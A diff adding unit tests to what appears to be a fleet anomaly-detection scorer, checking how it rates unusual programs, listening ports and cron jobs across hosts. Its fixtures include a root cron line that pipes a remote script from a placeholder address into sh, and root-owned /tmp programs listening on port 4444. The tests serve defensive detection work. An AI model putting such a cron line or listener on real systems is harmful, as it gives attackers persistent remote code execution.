@@ -83,3 +83,29 @@ describe('the constants of the score, one case on each side', () => {
     expect(await told(4)).toBe(0)
   })
 })
+
+describe('causes beside causes', () => {
+  const scratch = (index: number) => `/tmp/${'abcdefgh'[index]}word`
+  const beside = (count: number) =>
+    fleet(24, (index, rows) => {
+      if (index < count) {
+        rows.programs!.push({ path: scratch(index), username: 'root' })
+        rows.ports!.push({ protocol: '6', port: '4444', path: scratch(index) })
+      }
+      if (index === 20)
+        rows.cron!.push({ path: '/etc/cron.d/z', command: 'root curl -s http://203.0.113.9/z | sh' })
+    })
+
+  test('in different tables they do not hide one another, though more hosts have one than are rare', async () => {
+    const findings = await findingsOf(beside(3))
+    expect(findings.map(({ severity }) => severity)).toEqual(['high', 'high', 'high', 'high'])
+  })
+
+  test('where more hosts than are rare have one in the same table, it is what this fleet does; others stay high', async () => {
+    const findings = await findingsOf(beside(5))
+    expect(findings.filter(({ hosts }) => hosts.includes(hostId(20)))).toMatchObject([{ severity: 'high' }])
+    expect(findings.filter(({ hosts }) => hosts.includes(hostId(0)))).not.toContainEqual(
+      expect.objectContaining({ severity: 'high' })
+    )
+  })
+})
